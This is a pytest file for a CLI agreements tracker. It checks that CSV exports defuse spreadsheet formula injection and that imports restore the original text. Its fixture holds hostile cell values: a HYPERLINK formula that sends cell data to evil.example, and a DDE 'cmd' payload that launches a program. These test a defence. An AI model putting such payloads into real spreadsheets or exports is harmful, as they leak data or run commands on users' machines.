"""CSV cells a spreadsheet would run as formulas are written as text (a leading
apostrophe), numbers and dates stay as they are, and import reads each cell back as the
text it was."""

import csv
import io
import json

import pytest

from conftest import installed

pytestmark = pytest.mark.installed

FORMULAS = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "place": "+33 Paris",
    "count_reason": "-1+cmd|' /C calc'!A0",
    "pledge_note": "@SUM(A1:A9)",
    "step": "=1+1",
    "quoted": "'=already an apostrophe",
    "minus": "-5% on last year",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def agreements(env, *args):
    return installed(env, *args).stdout


@pytest.fixture
def hostile(tmp_path):
    env = {"AGREEMENTS_DB": str(tmp_path / "a.db"), "PATH": "/usr/bin:/bin",
           "HOME": str(tmp_path), "COLUMNS": "100"}  # fmt: skip
    agreements(env, "import", "--bundled")
    agreements(env, "update", "Germany", "--note", FORMULAS["note"])
    agreements(env, "update", "France", "--place", FORMULAS["place"])
    agreements(env, "update", "Poland", "--note", FORMULAS["quoted"])
    agreements(env, "update", "Denmark", "--note", FORMULAS["minus"])
    agreements(env, "update", "Italy", "--not-counted", "--count-reason", FORMULAS["count_reason"])
    agreements(env, "pledge", "add", "Italy", "5m", "--currency", "EUR", "--year", "2024",
               "--announced-on", "2024-03-01", "--source", "https://x.example/a",
               "--note", FORMULAS["pledge_note"])  # fmt: skip
    agreements(env, "milestone", "add", "Italy", FORMULAS["step"], "--on", "2024-03-01",
               "--source", "https://x.example/b")  # fmt: skip
    return env


READS = [
    ["list", "-f", "csv"], ["pledge", "list", "-f", "csv"], ["milestone", "list", "-f", "csv"],
    ["history", "-f", "csv"], ["export", "-f", "csv"],
    ["progress", "-f", "csv"], ["timeline", "-f", "csv"],
]  # fmt: skip


@pytest.mark.parametrize("command", READS, ids=" ".join)
def test_no_cell_starts_a_formula_and_numbers_stay_numbers(hostile, command):
    rows = list(csv.DictReader(io.StringIO(installed(hostile, *command).stdout, newline="")))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(TRIGGERS), (column, cell)
            if column in ("value_usd", "value_eur", "amount", "first_year", "id", "signed"):
                assert cell == "" or cell.replace(".", "", 1).isdigit(), (column, cell)
            if column.endswith("_on") or column in ("since", "usd_rate_date"):
                assert cell == "" or cell[:4].isdigit(), (column, cell)


def test_the_neutralised_cells_are_the_texts_with_an_apostrophe(hostile):
    rows = {
        r["code"]: r for r in csv.DictReader(io.StringIO(agreements(hostile, "list", "-f", "csv")))
    }
    assert rows["DE"]["note"] == "'" + FORMULAS["note"]
    assert rows["FR"]["place"] == "'+33 Paris"
    assert rows["PL"]["note"] == "''=already an apostrophe"
    assert rows["DK"]["note"] == "'-5% on last year"
    assert rows["IT"]["count_reason"] == "'" + FORMULAS["count_reason"]
    pledges = list(
        csv.DictReader(io.StringIO(agreements(hostile, "pledge", "list", "Italy", "-f", "csv")))
    )
    assert [p["note"] for p in pledges] == ["'@SUM(A1:A9)"] and pledges[0]["value_eur"] == "5000000"


def test_export_then_import_reads_every_cell_back_as_the_text_it_was(hostile, tmp_path):
    exported = agreements(hostile, "export", "-f", "csv")
    other = {**hostile, "AGREEMENTS_DB": str(tmp_path / "b.db")}
    (tmp_path / "export.csv").write_text(exported, encoding="utf-8")
    agreements(other, "import", str(tmp_path / "export.csv"))
    mine = json.loads(agreements(hostile, "export"))
    theirs = json.loads(agreements(other, "export"))

    def parties(data):
        return {p["code"]: {k: v for k, v in p.items() if k != "since"} for p in data["parties"]}

    assert parties(theirs) == parties(mine)
    by_code = parties(theirs)
    assert by_code["DE"]["note"] == FORMULAS["note"]
    assert by_code["PL"]["note"] == FORMULAS["quoted"]
    assert by_code["DK"]["note"] == FORMULAS["minus"]
    assert by_code["IT"]["count_reason"] == FORMULAS["count_reason"]
    assert [m["step"] for m in by_code["IT"]["milestones"]] == ["=1+1"]
